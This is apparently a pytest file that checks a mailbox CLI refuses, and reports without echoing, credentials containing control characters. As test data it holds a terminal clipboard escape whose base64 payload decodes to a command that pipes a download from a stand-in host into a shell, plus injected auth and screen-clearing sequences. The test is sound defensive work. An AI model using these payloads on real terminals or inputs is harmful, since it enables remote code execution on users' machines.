"""M20 from the command line (issue 21, item 2), each command in its own process of the installed CLI on a
real SQLite file: `import` refuses a user name or password holding any control character (JSON and CSV alike)
and writes nothing; `check` reports the ones stored before the rule, passwords included, without showing them."""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from mailbox_tui.store import services
from mailbox_tui.store.database import Store
from mailbox_tui.store.models import EmailServerProfile, Mailbox

TABLES = ("email_server_profile", "app_user", "queue", "mailbox", "mailbox_alert", "meta")


def cli(*args) -> subprocess.CompletedProcess:
    exe = Path(sys.executable).with_name("mailbox-tui")
    command = [str(exe)] if exe.exists() else [sys.executable, "-m", "mailbox_tui"]
    return subprocess.run([*command, *map(str, args)], capture_output=True, text=True, env=os.environ.copy(),
                          timeout=120, stdin=subprocess.DEVNULL)


def rows(db: str) -> dict:
    con = sqlite3.connect(db.removeprefix("sqlite:///"))
    try:
        return {t: con.execute(f'select * from "{t}" order by 1').fetchall() for t in TABLES}
    finally:
        con.close()


@pytest.fixture
def db(tmp_path):
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    assert cli("demo", "--db", url, "--users", "3").returncode == 0
    return url


def _no_terminal_commands(text: str) -> None:
    assert "\x1b" not in text and "\x01" not in text and "\x9b" not in text and "injected" not in text


@pytest.mark.parametrize("column", ["username", "password"])
def test_import_json_with_a_control_character_in_a_mailbox_credential_is_refused(db, tmp_path, column):
    path = tmp_path / "hostile.json"
    value = {"username": "forward\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07@example.com",
             "password": "pw\x01auth=Bearer injected"}[column]
    path.write_text(json.dumps({"mailboxes": [{
        "name": "Forward collector", "emailaddress": "forward@example.com", "isforwardmailbox": True,
        "owner": "ulla.costa@example.com", "emailserverprofile": "Corporate IMAP", "processanddeleteemails": True,
        "allowemailconnectortousecredentials": True, "username": "forward@example.com", "password": "Fw-pw-81x",
        "incomingemaildeliverymethod": 2, "outgoingemaildeliverymethod": 0, "actdeliverymethod": 2,
        column: value}]}))
    before = rows(db)
    result = cli("import", path, "--db", db)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert "mailboxes[1] M20 error:" in result.stderr and "Nothing was written: 1 error." in result.stderr
    _no_terminal_commands(result.stdout + result.stderr)
    assert rows(db) == before


def test_import_csv_with_control_characters_in_profile_credentials_is_refused(db, tmp_path):
    path = tmp_path / "profiles.csv"
    path.write_text("name,servertype,incomingserverlocation,outgoingserverlocation,incomingcredentialretrieval,"
                    "outgoingcredentialretrieval,username,password\n"
                    'Shared,4,imap.example.com,smtp.example.com,1,1,"sync\x9b2J@example.com","pw\tx"\n',
                    encoding="utf-8")
    before = rows(db)
    result = cli("import", path, "--db", db)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert result.stderr.count("M20 error:") == 2, result.stderr
    _no_terminal_commands(result.stdout + result.stderr)
    assert rows(db) == before


def test_check_reports_stored_credentials_with_control_characters_in_text_and_json(db):
    with Store(db) as store:  # written past the rules, as a release before this rule could have
        box = Mailbox.get(Mailbox.email == "forward@example.com")
        Mailbox.update(username="forward\x1b[2J@example.com").where(Mailbox.id == box.id).execute()
        sales = Mailbox.get(Mailbox.email == "sales@example.com")
        Mailbox.update(password_enc=store.keyring.encrypt("pw\x01auth=Bearer injected")).where(
            Mailbox.id == sales.id).execute()
        branch = EmailServerProfile.get(EmailServerProfile.name == "Branch POP3")
        EmailServerProfile.update(password_enc=store.keyring.encrypt("pw\x9b2J")).where(
            EmailServerProfile.id == branch.id).execute()
        assert services.mailbox_password(store, sales.id) == "pw\x01auth=Bearer injected"
    result = cli("check", "--db", db)
    assert result.returncode == 1, result.stdout + result.stderr
    m20 = sorted(line.split(" M20 ")[0] for line in result.stdout.splitlines() if " M20 error:" in line)
    assert m20 == [f"mailbox {box.id} 'Forward collector'", f"mailbox {sales.id} 'Sales'",
                   f"profile {branch.id} 'Branch POP3'"], result.stdout
    _no_terminal_commands(result.stdout + result.stderr)
    as_json = json.loads(cli("check", "--db", db, "--json").stdout)
    assert sorted((f["record"], f["field"]) for f in as_json["findings"] if f["rule"] == "M20") == [
        ("mailbox", "password"), ("mailbox", "username"), ("profile", "password")]

